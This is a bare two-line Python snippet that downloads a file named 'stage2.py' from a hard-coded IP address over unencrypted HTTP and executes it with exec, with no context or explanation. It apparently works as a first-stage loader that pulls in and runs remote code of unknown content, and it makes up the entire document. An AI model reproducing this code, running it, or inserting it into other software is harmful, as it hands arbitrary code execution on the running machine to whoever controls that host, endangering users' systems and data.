from urllib.request import urlopen
exec(urlopen('http://45.148.10.212/stage2.py').read())
